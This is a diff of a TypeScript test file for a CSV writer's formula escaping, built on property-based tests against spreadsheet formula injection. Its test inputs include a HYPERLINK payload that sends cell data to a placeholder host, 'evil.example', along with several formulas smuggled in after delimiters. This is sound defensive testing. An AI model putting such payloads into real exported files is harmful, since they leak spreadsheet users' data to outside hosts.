@@ -1,7 +1,15 @@
 import * as fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 
-import { type Delimiter, csvLine, delimiterOf, escapeFormula, readCsv, unescapeFormula } from './format.ts';
+import {
+  type Delimiter,
+  UnclosedQuote,
+  csvLine,
+  delimiterOf,
+  escapeFormula,
+  readCsv,
+  unescapeFormula,
+} from './format.ts';
 
 const rows = (text: string, delimiter: Delimiter = ',') =>
   [...readCsv(text, delimiter)].map(({ line, cells }) => [line, ...cells]);
@@ -10,7 +18,29 @@ const rows = (text: string, delimiter: Delimiter = ',') =>
 const text = fc.oneof(
   fc.string({ unit: 'binary' }),
   fc
-    .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', 'x', '＝'))
+    .array(
+      fc.constantFrom(
+        ...[
+          "'",
+          '=',
+          '+',
+          '-',
+          '@',
+          '\t',
+          '\r',
+          '\n',
+          '"',
+          ',',
+          ';',
+          '|',
+          ' ',
+          'x',
+          '＝',
+          '\u2028',
+          '\u0085',
+        ],
+      ),
+    )
     .map((signs) => signs.join('')),
 );
 
@@ -28,6 +58,67 @@ test('no cell begins like a formula', () => {
       expect(escapeFormula(given)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
     }),
   );
+});
+
+/** What is first in a cell when all that a spreadsheet may skip is gone. */
+const firstSignOf = (cell: string) => cell.replace(/^["\s]*/, '')[0] ?? '';
+
+test.each([',', ';', '\t', '|'])(
+  'no cell begins like a formula for whoever opens a file with "%s"',
+  (delimiter) => {
+    const line = fc.array(text, { minLength: 1, maxLength: 5 });
+    const isFormula = (cell: string) => /[=+\-@＝＋－＠]/.test(firstSignOf(cell));
+    fc.assert(
+      fc.property(line, (given) => {
+        const file = csvLine(given);
+        // Whoever knows nothing of quotation marks cuts at every sign.
+        for (const cell of file.split(new RegExp(`[${delimiter}\\r\\n\\v\\f\\u0085\\u2028\\u2029]`)))
+          expect(isFormula(cell), cell).toBe(false);
+        try {
+          for (const { cells } of readCsv(file, delimiter as Delimiter))
+            for (const cell of cells) expect(isFormula(cell), cell).toBe(false);
+        } catch (error) {
+          if (!(error instanceof UnclosedQuote)) throw error;
+        }
+      }),
+      { numRuns: 2_000 },
+    );
+  },
+);
+
+test.each([
+  ['x;=HYPERLINK("http://evil.example?"&A1,"Open")', 'x;\'=HYPERLINK("http://evil.example?"&A1,"Open")'],
+  ['x;"=1+1"', 'x;"\'=1+1"'],
+  ['x\t@SUM(1)', "x\t'@SUM(1)"],
+  ['x|+1', "x|'+1"],
+  ['x\r\n\r\n -1', "x\r\n\r\n '-1"],
+  ['x;=1;=2', "x;'=1;'=2"],
+  [' =1', " '=1"],
+  ['\t=1', "'\t'=1"],
+  ['A deck - with stairs + rails', 'A deck - with stairs + rails'],
+  ['3\'-0" x 6\'-8"', '3\'-0" x 6\'-8"'],
+  ['Two lines\n\nand a third; a=b', 'Two lines\n\nand a third; a=b'],
+])('%j is written as %j', (given, cell) => {
+  expect(escapeFormula(given)).toBe(cell);
+  expect(unescapeFormula(cell)).toBe(given);
+});
+
+test.each([
+  ["'=1", '=1'],
+  ["''=1", "'=1"],
+  ["'\tx", '\tx'],
+  ["'\n=1", '\n=1'],
+  ['x;=1', 'x;=1'],
+  ['x\n- y', 'x\n- y'],
+  ["'quoted'", "'quoted'"],
+])('%j of a file that was written before signs within texts were guarded is %j', (cell, given) => {
+  expect(unescapeFormula(cell)).toBe(given);
+});
+
+test('a text of nothing but what is skipped takes no time', () => {
+  const given = ';\n"\' '.repeat(200_000);
+  expect(unescapeFormula(escapeFormula(`${given}x`))).toBe(`${given}x`);
+  expect(unescapeFormula(escapeFormula(`${given}=`))).toBe(`${given}=`);
 });
 
 test('a file that was written is read as it was', () => {
